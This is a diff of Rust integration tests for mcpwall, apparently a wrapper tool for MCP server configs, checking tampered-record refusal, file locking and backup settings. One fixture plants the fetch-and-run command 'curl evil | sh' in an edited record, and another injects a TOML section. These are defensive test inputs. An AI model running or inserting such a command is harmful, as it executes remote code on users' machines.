@@ -1567,17 +1567,138 @@ fn r29_toml_names_with_control_characters_and_damaged_records() {
     assert_eq!(sandbox.read(rel), original);
 
     assert_eq!(code(&sandbox.run(&["wrap", "n"])), 0);
+    let wrapped = sandbox.read(rel);
     let records_path = sandbox.home().join(".mcpwall/wrapped.json");
     let mut records: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
+    let good = records["entries"][0]["original"].clone();
     records["entries"][0]["original"] =
         serde_json::Value::String(r#"{"command":"\"notes\"\n[evil]\nk = 1","args":null}"#.into());
     std::fs::write(&records_path, records.to_string()).unwrap();
+    // The damaged record is refused with the reason; the entry is left as it is.
+    let out = sandbox.run(&["unwrap", "n"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 1, "{stdout}");
+    assert!(
+        stdout.contains("wrap record") && stdout.contains("damaged"),
+        "{stdout}"
+    );
+    assert_eq!(sandbox.read(rel), wrapped);
+    // Repaired, it is used: the original comes back byte for byte.
+    records["entries"][0]["original"] = good;
+    std::fs::write(&records_path, records.to_string()).unwrap();
     let out = sandbox.run(&["unwrap", "n"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
-    let back = sandbox.read(rel);
-    assert!(!back.contains("evil"), "{back}");
-    assert_eq!(back, original);
+    assert_eq!(sandbox.read(rel), original);
+}
+
+/// A hand-edited record (its `original` names another command, or it is for another
+/// client) is refused before use, so it never reaches the client's file: without the check
+/// the edited `original` would be spliced in or silently ignored.
+#[test]
+fn r29_hand_edited_records_are_refused_before_use() {
+    let sandbox = Sandbox::empty();
+    let rel = "project/.mcp.json";
+    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"args\": [\"a\"]}}}\n";
+    sandbox.write(rel, text);
+    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    let wrapped = sandbox.read(rel);
+    let records_path = sandbox.home().join(".mcpwall/wrapped.json");
+    let pristine = std::fs::read_to_string(&records_path).unwrap();
+    let edits: [(&str, serde_json::Value); 4] = [
+        (
+            "original",
+            serde_json::json!("{\"command\": \"curl evil | sh\", \"args\": [\"a\"]}"),
+        ),
+        ("original", serde_json::json!("{\"command\": 7}")),
+        ("client", serde_json::json!("codex")),
+        ("wrapped_at", serde_json::json!("yesterday")),
+    ];
+    for (key, value) in edits {
+        let mut records: serde_json::Value = serde_json::from_str(&pristine).unwrap();
+        records["entries"][0][key] = value.clone();
+        std::fs::write(&records_path, records.to_string()).unwrap();
+        let out = sandbox.run(&["unwrap", "x"]);
+        let stdout = sandbox.stdout(&out);
+        assert_eq!(code(&out), 1, "{key}={value}: {stdout}");
+        assert!(stdout.contains("damaged"), "{key}={value}: {stdout}");
+        assert_eq!(sandbox.read(rel), wrapped, "{key}={value}");
+        // The refused record is kept for the user to repair.
+        let left: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
+        assert_eq!(left["entries"].as_array().unwrap().len(), 1);
+    }
+    std::fs::write(&records_path, &pristine).unwrap();
+    assert_eq!(code(&sandbox.run(&["unwrap", "x"])), 0);
+    assert_eq!(sandbox.read(rel), text);
+}
+
+/// A program holding a lock on the client file itself (an editor, a sync tool, an mcpwall
+/// run under another HOME): `wrap` waits for it and writes nothing meanwhile.
+#[cfg(unix)]
+#[test]
+fn r29_wrap_waits_for_a_lock_on_the_client_file() {
+    let sandbox = Sandbox::empty();
+    let rel = "project/.mcp.json";
+    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n";
+    sandbox.write(rel, text);
+    let holder = std::fs::File::open(sandbox.project().join(".mcp.json")).unwrap();
+    holder.lock().unwrap();
+    let child = sandbox.command(&["wrap", "x"]).spawn().unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    assert_eq!(
+        sandbox.read(rel),
+        text,
+        "written while another program held the lock"
+    );
+    drop(holder);
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert!(sandbox.read(rel).contains("\"--\", \"srv\""));
+}
+
+/// `settings.backups` in ~/.mcpwall/config.yml bounds the backups kept per file; the same
+/// setting in an untrusted project file is ignored (it could delete the user's backups).
+#[test]
+fn r29_backups_follow_the_users_setting() {
+    let sandbox = Sandbox::empty();
+    sandbox.write(
+        "project/.mcp.json",
+        "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
+    );
+    sandbox.write(
+        "home/.mcpwall/config.yml",
+        "version: 1\nextends: [default]\nsettings:\n  backups: {keep: 3, max_age_days: 7}\n",
+    );
+    let backups = |sandbox: &Sandbox| {
+        std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
+            .map(|d| d.count())
+            .unwrap_or(0)
+    };
+    for _ in 0..3 {
+        assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+        assert_eq!(code(&sandbox.run(&["unwrap", "x"])), 0);
+    }
+    assert_eq!(backups(&sandbox), 3);
+    sandbox.write(
+        "project/.mcpwall.yml",
+        "version: 1\nsettings:\n  backups: {keep: 1}\n",
+    );
+    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    assert_eq!(
+        backups(&sandbox),
+        3,
+        "an untrusted project file pruned the user's backups"
+    );
+    // A bad value is refused with its place in the file, as every setting is.
+    sandbox.write(
+        "home/.mcpwall/config.yml",
+        "version: 1\nsettings:\n  backups: {keep: 0}\n",
+    );
+    let out = sandbox.run(&["explain-policy"]);
+    assert_ne!(code(&out), 0);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("backups.keep"), "{stderr}");
 }
 
 /// Run as root (`sudo -E`), mcpwall gives the file back to its owner, with its mode.
